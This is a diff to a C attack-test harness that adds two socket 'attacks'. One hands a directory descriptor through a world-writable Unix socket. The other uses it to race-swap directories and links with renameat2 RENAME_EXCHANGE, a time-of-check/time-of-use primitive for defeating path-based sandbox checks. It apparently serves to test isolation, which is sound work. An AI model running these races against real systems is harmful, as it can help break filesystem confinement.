@@ -12,6 +12,7 @@
 #include <netinet/in.h>
 #include <stddef.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
 #include <sys/un.h>
 
 #ifndef IPV6_FREEBIND
@@ -210,7 +211,69 @@ static long send_frame(char **word)
     return end < 0 ? end : sendto(end, frame, size, 0, (void *)&to, sizeof to);
 }
 
+static struct sockaddr_un address_of(const char *path)
+{
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+
+    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
+    return address;
+}
+
+/* A message of one byte with room for one descriptor. */
+static struct msghdr message_in(struct iovec *byte, void *room, size_t size)
+{
+    return (struct msghdr){.msg_iov = byte, .msg_iovlen = 1, .msg_control = room, .msg_controllen = size};
+}
+
+/* Give whoever connects to the socket word[0] a descriptor of the directory word[1], and stay. */
+static long give_directory(char **word)
+{
+    struct sockaddr_un address = address_of(word[0]);
+    char room[CMSG_SPACE(sizeof(int))] = {0};
+    struct iovec byte = {.iov_base = ".", .iov_len = 1};
+    struct msghdr message = message_in(&byte, room, sizeof room);
+    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
+    int directory = open(word[1], O_RDONLY | O_DIRECTORY), server = socket(AF_UNIX, SOCK_STREAM, 0);
+
+    if (directory < 0 || bind(server, (void *)&address, sizeof address) < 0 || chmod(word[0], 0777) < 0)
+        return -1;
+    header->cmsg_level = SOL_SOCKET, header->cmsg_type = SCM_RIGHTS, header->cmsg_len = CMSG_LEN(sizeof(int));
+    memcpy(CMSG_DATA(header), &directory, sizeof directory);
+    if (listen(server, 1) < 0 || sendmsg(accept(server, NULL, NULL), &message, 0) < 0)
+        return -1;
+    for (;;)
+        pause();
+}
+
+/* Take such a descriptor, say so, and let 20 directories "folderN" and links "linkN" change places for ever. */
+static long swap_in_directory(char **word)
+{
+    struct sockaddr_un address = address_of(word[0]);
+    char room[CMSG_SPACE(sizeof(int))] = {0}, data, folder[16], link[16];
+    struct iovec byte = {.iov_base = &data, .iov_len = 1};
+    struct msghdr message = message_in(&byte, room, sizeof room);
+    int directory, client = socket(AF_UNIX, SOCK_STREAM, 0);
+
+    if (connect(client, (void *)&address, sizeof address) < 0 || recvmsg(client, &message, 0) < 0)
+        return -1;
+    memcpy(&directory, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof directory);
+    for (long done = 0;; done++) {
+        for (int i = 0; i < 20; i++) {
+            snprintf(folder, sizeof folder, "folder%d", i);
+            snprintf(link, sizeof link, "link%d", i);
+            if (renameat2(directory, folder, directory, link, RENAME_EXCHANGE) < 0 && !done)
+                return -1;
+        }
+        if (!done)
+            printf("swapping\n"), fflush(stdout);
+        if (done % 2)
+            usleep(50);
+    }
+}
+
 const struct attack sockets[] = {
+    {"give_directory", give_directory},
+    {"swap_in_directory", swap_in_directory},
     {"families", families},
     {"families32", families_32},
     {"old_packet", old_packet},
